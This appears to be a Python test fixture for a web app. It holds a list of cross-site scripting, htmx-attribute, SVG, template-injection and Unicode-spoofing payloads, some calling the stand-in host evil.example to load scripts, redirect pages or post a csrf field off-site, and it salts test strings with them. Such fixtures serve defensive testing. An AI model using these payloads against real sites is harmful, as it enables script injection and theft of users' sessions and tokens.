"""Texts that would act if a page took them for its own: each element that one makes has the class ``evil``."""

from collections.abc import Mapping
from itertools import cycle
from types import MappingProxyType

PAYLOADS: Mapping[str, str] = MappingProxyType(
    {
        "script": "<script class=evil>alert(1)</script>",
        "script that loads": '<script class=evil src="https://evil.example/x.js"></script>',
        "image": "<img class=evil src=x onerror=alert(1)>",
        "attribute": '" class="evil" autofocus onfocus="alert(1)" x="',
        "single quotes": "' class='evil' onmouseover='alert(1)' x='",
        "hx-get": '<div class=evil hx-get="/evil" hx-trigger="load"></div>',
        "data-hx-get": '<div class=evil data-hx-get="/evil" data-hx-trigger="load"></div>',
        "hx-on": '<div class=evil hx-on:htmx:load="alert(1)" hx-on::load="alert(1)"></div>',
        "hx-sse": '<div class=evil hx-sse:connect="https://evil.example/live" hx-nonce="x"></div>',
        "hx-vals": '<div class=evil hx-post="/sign-out" hx-trigger="load" hx-vals="js:{x: alert(1)}"></div>',
        "key": '<button class=evil data-key="a" formaction="/evil">a</button>',
        "javascript link": '<a class=evil href="javascript:alert(1)">x</a> [x](javascript:alert%281%29)',
        "data link": '<a class=evil href="data:text/html,<script>1</script>">x</a> [x](data:text/html,x)',
        "markdown image": '![x](https://evil.example/t.png) ![x](x "onerror=alert(1)")',
        "SVG": '<svg class=evil onload=alert(1)><a href="javascript:alert(1)"><text>x</text></a></svg>',
        "SVG use": '<svg class=evil><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
        "MathML": "<math class=evil><mtext><mglyph><style><img class=evil src onerror=alert(1)></style></math>",
        "base": '<base class=evil href="https://evil.example/">',
        "refresh": '<meta class=evil http-equiv="refresh" content="0;url=https://evil.example/">',
        "form": '<form class=evil action="https://evil.example/"><input class=evil name=csrf></form>',
        "frame": "<iframe class=evil srcdoc='<script>parent.alert(1)</script>'></iframe>",
        "style": "<style class=evil>*{display:none}</style><link class=evil rel=stylesheet href=//evil.example>",
        "template": "{{1337*1337}}{% raw %}${1337*1337}#{1337*1337}<%= 1337*1337 %>",
        "textarea": "</textarea></title></style></script><script class=evil>alert(1)</script>",
        "comment": "--><img class=evil src=x onerror=alert(1)><!--",
        "entities": "&lt;img class=evil src=x onerror=alert(1)&gt; &#60;script&#62;alert(1)&#60;/script&#62;",
        "bidi": "\u202eevil gnp.exe \u2066\u2067\u202d",
        "zero width": "a\u200bb\u200dc\u2060d\ufeffe",
        "long word": "W" * 190,
    }
)
"""By what they try."""


class Salt:
    """Adds the next of the payloads to each text that it is given, or nothing, for a realm as it should be."""

    def __init__(self, *, hostile: bool) -> None:
        self._payloads = cycle(PAYLOADS.values() if hostile else ("",))

    def __call__(self, usual: str, *, longest: int = 1000) -> str:
        """The text with a payload, shortened."""
        return f"{usual} {next(self._payloads)}".strip()[:longest].strip()

    def line(self, usual: str, *, longest: int = 190) -> str:
        """The text with a payload, without the characters that names of realms, members and labels may not have."""
        return "".join(char for char in self(usual, longest=longest) if char.isprintable())

    def name(self, usual: str) -> str:
        """A name of a file, which has no slashes and an end that says its type."""
        stem, _, ending = usual.rpartition(".")
        return f"{self(stem, longest=150).replace('/', '∕').replace(chr(92), '')}.{ending}"
